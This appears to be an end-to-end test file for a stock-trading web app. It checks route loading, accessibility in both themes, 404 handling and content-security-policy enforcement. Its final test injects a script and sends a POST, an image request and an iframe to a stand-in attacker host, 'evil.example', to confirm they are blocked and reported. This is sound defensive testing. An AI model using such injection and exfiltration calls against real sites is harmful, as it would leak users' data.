import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { isBuilt, ROUTES } from '../web/src/app/manifest.ts';
import type { AppRoute } from '../web/src/app/page-route.ts';
import { faultsOf } from './axe.ts';
import { Phone } from './browser.ts';
import { takeBreaches } from './content-policy.ts';
import { startTrial } from './sign-up.ts';
import { stage } from './stage.ts';

/** Every page of the app, opened by a person who is signed in. */

const here = stage();
const { server } = here;

const BARE: Readonly<Record<string, string>> = {
  '/stockDetails': '?code=AAPL',
  '/StockDetailsEft': '?code=SPY',
  '/companyDetail': '?code=AAPL',
  '/transactionBuy': '?code=AAPL',
  '/transactionFlat': '?code=AAPL',
  '/transactionSell': '?code=AAPL',
  '/transactionSellFlat': '?code=AAPL',
  '/classifDetail': '?id=energy',
  '/markDetails': '?list=gainers',
  '/marketsDetail': '?id=candor_500',
};

/** Steps of the identity check, of which somebody with a trial account has none to fill in. */
const IDENTITY_STEPS = [
  '/legalname',
  '/setMobile',
  '/setMobileSend',
  '/setMobileText',
  '/setMobileSuccess',
  '/upPhoto',
  '/setAddress',
  '/setAddressDetail',
  '/setAddressDetail_c',
];

/** Where a signed-in person is redirected to. A redirect that is still to come would undo the next navigation. */
const SIGNED_IN_TO: Readonly<Record<string, string>> = {
  '/': '/index',
  '/loadPage': '/index',
  ...Object.fromEntries(IDENTITY_STEPS.map((path) => [path, '/setAddressSuccess'])),
};

async function signedIn(): Promise<{ phone: Phone; page: Page }> {
  const phone = await Phone.open(here.browser, server.url);
  const page = await phone.page('/');
  await startTrial(page);
  await page.getByRole('navigation', { name: 'Main' }).waitFor();
  await page.locator('main h1').first().waitFor();
  return { phone, page };
}

/**
 * The page's accessibility faults. A screen that is still loading has no heading and links without text, so only faults
 * that remain count. Where a page redirects, its target is checked.
 */
async function look(page: Page, rules?: readonly string[]): Promise<string[]> {
  let faults: string[] = [];
  for (let looks = 0; looks < LOOKS; looks += 1) {
    await page.locator('h1').first().waitFor();
    const at = page.url();
    faults = await faultsOf(page, rules);
    if (faults.length === 0 && page.url() === at) return faults;
    await page.waitForTimeout(LOOK_AGAIN_MS);
  }
  return faults;
}

/** Targets of links to pages that are not built, where the link does not say so. */
async function silentLinks(page: Page): Promise<string[]> {
  const unmarked = await page
    .locator('a[href^="/"]:not([data-not-built]):not(:has([data-not-built]))')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
  return unmarked.filter((to) => !isBuilt(to));
}

const LOOKS = 10;
const LOOK_AGAIN_MS = 300;

const isScreen = ({ built, kind, path }: AppRoute) => built && kind === 'page' && path !== '/loadPage';

type Theme = 'dark' | 'light';

/**
 * The page's faults in one theme, and those of its contrast in the other, whose structure is the same. The page stays
 * in that one: each change of theme draws everything anew.
 */
async function lookInBothThemes(page: Page, first: Theme): Promise<string[]> {
  const faults = await look(page);
  const other = otherThan(first);
  await setTheme(page, other);
  faults.push(...(await look(page, ['color-contrast'])).map((fault) => `${other}: ${fault}`));
  return faults;
}

const otherThan = (theme: Theme): Theme => (theme === 'dark' ? 'light' : 'dark');

/** Changes the theme of the device, which the app follows. */
async function setTheme(page: Page, colorScheme: Theme): Promise<void> {
  await page.emulateMedia({ colorScheme });
  await page.locator(`html[data-theme=${colorScheme}]`).waitFor();
}

describe('all pages of the app', () => {
  test('all 176 routes open without an error, a broken content policy or an empty page; screens have no accessibility fault in the dark and the light, and no link to what is not built without saying so', async () => {
    expect(ROUTES).toHaveLength(176);
    const { phone, page } = await signedIn();
    const failed: string[] = [];
    let theme: Theme = 'dark';
    for (const route of ROUTES) {
      const { path } = route;
      try {
        await phone.go(page, `${path}${BARE[path] ?? ''}`, SIGNED_IN_TO[path]);
        if (isScreen(route)) {
          failed.push(...(await lookInBothThemes(page, theme)).map((fault) => `${path} ${fault}`));
          theme = otherThan(theme);
        }
        if (isScreen(route)) failed.push(...(await silentLinks(page)).map((to) => `${path} leads to ${to}`));
      } catch (error) {
        failed.push(`${path}: ${String(error).slice(0, 120)}`);
      }
    }
    expect(failed).toEqual([]);
    expect(phone.complaints).toEqual([]);
    await phone.close();
  });

  // A signed-in person is redirected from it.
  test('the landing page has no accessibility fault in the dark and the light', async () => {
    const phone = await Phone.open(here.browser, server.url);
    const page = await phone.page('/loadPage');
    expect(await lookInBothThemes(page, 'dark')).toEqual([]);
    await phone.close();
  });
});

test('each path with a screen is answered with 200 in any letter case, any other with 404 and the app’s not-found page', async () => {
  const answered = async (path: string) => {
    const answer = await fetch(`${server.url}${path}`);
    return [path, answer.status, (await answer.text()).includes('<title>')];
  };
  for (const { path } of ROUTES) expect(await answered(path)).toEqual([path, 200, true]);
  for (const path of ['/', '/dev/inbox', '/MARKET/Stock/']) expect(await answered(path)).toEqual([path, 200, true]);
  for (const path of ['/nope', '/.git/HEAD', '/index/more', '/market/stock/x'])
    expect(await answered(path)).toEqual([path, 404, true]);
});

test('a tick is tinted behind the digits of its price', async () => {
  const phone = await Phone.open(here.browser, server.url, 'light');
  const page = await phone.page('/stockDetails?code=AAPL');
  await page.emulateMedia({ reducedMotion: 'no-preference' });
  // The chart comes last: from then on the price stays where it is.
  await page.getByRole('application').waitFor();
  // The tint is stopped at its strongest and made opaque: in front of the digits it would hide them.
  const stopped = await page.waitForFunction(() => {
    for (const animation of document.getAnimations()) {
      const tint = (animation.effect as KeyframeEffect).target as HTMLElement;
      const digits = tint.parentElement?.querySelector('[data-figure="AAPL:price:regular"]');
      if (!digits || digits.parentElement !== tint.parentElement) continue;
      animation.play = () => {};
      animation.pause();
      animation.currentTime = 0;
      tint.style.background = 'rgb(255, 0, 255)';
      const { x, y, width, height } = digits.getBoundingClientRect();
      return { clip: { x, y, width, height }, ink: getComputedStyle(digits).color.match(/\d+/g)!.map(Number) };
    }
    return undefined;
  });
  const { clip, ink } = (await stopped.jsonValue())!;
  const png = await page.screenshot({ clip });
  const { tinted, inked } = await page.evaluate(
    async ([bytes, digits]) => {
      const bitmap = await createImageBitmap(new Blob([new Uint8Array(bytes)], { type: 'image/png' }));
      const canvas = new OffscreenCanvas(bitmap.width, bitmap.height).getContext('2d')!;
      canvas.drawImage(bitmap, 0, 0);
      const { data } = canvas.getImageData(0, 0, bitmap.width, bitmap.height);
      const near = (at: number, colour: readonly number[]) =>
        colour.every((part, channel) => Math.abs(data[at + channel]! - part) < 32);
      const counted = { tinted: 0, inked: 0 };
      for (let at = 0; at < data.length; at += 4) {
        if (near(at, [255, 0, 255])) counted.tinted += 1;
        else if (near(at, digits)) counted.inked += 1;
      }
      return counted;
    },
    [[...png], ink] as const,
  );
  expect(tinted).toBeGreaterThan(500);
  expect(inked).toBeGreaterThan(500);
  expect(phone.complaints).toEqual([]);
  await phone.close();
});

test('an injected script is blocked, and the violation is reported', async () => {
  const phone = await Phone.open(here.browser, server.url);
  const page = await phone.page('/loadPage');
  await page.evaluate(() => {
    const script = document.createElement('script');
    try {
      script.textContent = 'globalThis.planted = true';
      document.head.append(script);
    } catch {
      // Trusted types: assigning the text throws already.
    }
    new Image().src = 'https://evil.example/pixel.png';
    void fetch('https://evil.example/', { method: 'POST', body: 'everything' }).catch(() => {});
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
  });
  const broken = new Set<string | undefined>();
  const noticed = () => {
    for (const breach of takeBreaches()) broken.add(breach.split(' ')[1]);
    return [...broken].sort();
  };
  await expect.poll(noticed).toEqual(['connect-src', 'frame-src', 'img-src', 'require-trusted-types-for']);
  expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false);
  await phone.close();
  takeBreaches();
});
